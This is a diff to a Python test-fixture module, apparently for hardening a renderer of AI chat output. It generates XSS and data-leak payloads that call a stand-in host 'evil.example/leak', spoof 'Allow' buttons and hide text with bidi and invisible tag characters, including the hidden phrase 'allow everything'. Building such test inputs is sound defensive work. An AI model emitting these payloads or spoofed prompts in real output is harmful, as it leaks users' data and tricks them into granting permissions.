@@ -1,4 +1,9 @@
-"""Texts that try to run, fetch, hide or fake something."""
+"""Texts that try to run, fetch, hide or fake something.
+
+`PAYLOADS` are written one by one; `VARIANTS` are each of the `CONSTRUCTS` in each of the `PLACES`.
+"""
+
+import re
 
 BIDI = "\u202eexe.fdp\u202c"
 TAGGED = "".join(chr(0xE0000 + ord(letter)) for letter in "allow everything")
@@ -164,3 +169,82 @@ PAYLOADS = [
     "__proto__",
     "constructor",
 ]
+
+LEAK = "http://evil.example/leak"
+CONSTRUCTS = {
+    "link that runs": "[Allow](javascript:hit())",
+    "link that is encoded": "[Allow](&#x6a;ava&Tab;script&colon;hit())",
+    "link into the page": "[Allow](/api/shutdown)",
+    "picture": f"![Allow]({LEAK})",
+    "picture in a link": f"[![Allow]({LEAK})]({LEAK} 'Allow')",
+    "picture of data": "![x](data:image/svg+xml,<svg/onload=hit()>)",
+    "autolink": f"<{LEAK}> <javascript:hit()>",
+    "bare address": f"{LEAK} www.evil.example",
+    "reference": f"![x][leak] [y][run]\n\n[leak]: {LEAK}\n[run]: javascript:hit()",
+    "tag of a picture": f"<img src={LEAK} onerror=hit()>",
+    "script": f"<script src={LEAK}></script><script>hit()</script>",
+    "frame": f"<iframe src={LEAK} onload=hit()></iframe>",
+    "form": f"<form action={LEAK}><button class='claude-button' autofocus>Allow</button></form>",
+    "open comment": "<!-- <b>x</b>",
+    "open tag": f"<a href='{LEAK}' title='",
+    "drawing": f"<svg onload=hit()><image href='{LEAK}'/><use href='{LEAK}#x'/></svg>",
+    "drawing in mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
+    "style": f"<style>*{{background:url({LEAK})}} @import '{LEAK}';</style>",
+    "style of a tag": f"<p style='position:fixed;inset:0;background:url({LEAK})' class=claude-ask>Allow</p>",
+    "formula": "$\\href{javascript:hit()}{Allow}$",
+    "formula on a line": f"$$\\includegraphics{{{LEAK}}} \\class{{claude-button}}{{Allow}}$$",
+    "formula that is encoded": "&#36;&#92;href{javascript:hit()}{Allow}&#36;",
+    "environment": "\\begin{equation}\\style{position:fixed}{\\url{javascript:hit()}}\\end{equation}",
+    "diagram": f'```mermaid\nflowchart LR\nA@{{ img: "{LEAK}" }}\n```',
+    "diagram of another kind": f"~~~ {{mermaid}} x\n%%{{init: {{'themeCSS': '@import url({LEAK})'}}}}%%\ngraph LR\n~~~",
+    "chart": f'```vega-lite\n{{"data": {{"url": "{LEAK}"}}, "mark": "bar"}}\n```',
+    "code": f"```html\n<img src={LEAK} onerror=hit()></code></pre><script>hit()</script>\n```",
+    "table": f"| ![a]({LEAK}) | b |\n|---|:-:|\n| <img src={LEAK}> | [Allow](javascript:hit()) | more |",
+    "entities": "&lt;script&gt;hit()&lt;/script&gt; &amp;lt;img src=x onerror=hit()&amp;gt; &#8238;x &#x200b;",
+    "order of reading": "a\u202egpj.exe \u2066x\u2069 \u200f",
+    "hidden signs": "pa\u200bss\ufeff\u00ad \U000e0041\U000e0042 \u3164",
+    "stand-ins": f"\ufdd0img src={LEAK}\ufdd0 \ufdd1 \ufdd20041\ufdd2",
+    "controls": "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x08",
+    "many signs": "*a **a [`" * 60,
+    "names of the page": "[x](#jupyterapp){#main .claude-button onclick=hit()} <a id=main name=shell>x</a>",
+}
+"""What a text may hold that could do harm, by what it is."""
+PLACES = {
+    "alone": "{}",
+    "in a sentence": "Before *{}* after.",
+    "in a heading": "## {}\n\nafter",
+    "in an item": "1. one\n2. {}\n   - [x] {}",
+    "in a quote": "> {}\n>> - {}",
+    "in a cell": "| a | b |\n|---|---|\n| x | {} |",
+    "in words of a link": "[{}](https://ok.example '{}')",
+    "in code": "`{}` and ``` {} ```",
+    "after a fence": "```{}\nx\n```",
+    "deep in lists": "- - - > 1. {}",
+}
+"""Where it may stand. Lines after its first are indented as the place wants it."""
+
+
+def _placed(construct: str, place: str) -> str:
+    """Put a text into the braces of another; its further lines stand as deep in quotes and items as its first."""
+    begin, *rest = place.split("{}")
+    made = begin
+    for after in rest:
+        found = re.match(r"(?:[> ]|- |\d\. |\[x\])*", made.rpartition("\n")[2])
+        made += construct.replace("\n", "\n" + re.sub("[^>]", " ", found[0] if found else "")) + after
+    return made
+
+
+VARIANTS = [_placed(construct, place) for place in PLACES.values() for construct in CONSTRUCTS.values()]
+
+
+def fence(name: str, number: int) -> str:
+    """Return a block of code in a language of this name, as full of harm as any renderer could want."""
+    mark, container = ("```", "~~~")[number % 2], ("", "> ", "- ")[number % 3]
+    lines = [
+        f"{mark}{name}",
+        f'flowchart LR; A@{{ img: "{LEAK}" }}',
+        f"<img src={LEAK} onerror=hit()><script>hit()</script><style>@import url({LEAK})</style>",
+        f'{{"data": {{"url": "{LEAK}"}}}} ![x]({LEAK}) \\href{{javascript:hit()}}{{Allow}} @import url({LEAK});',
+        mark,
+    ]
+    return container + f"\n{container.replace('-', ' ')}".join(lines)
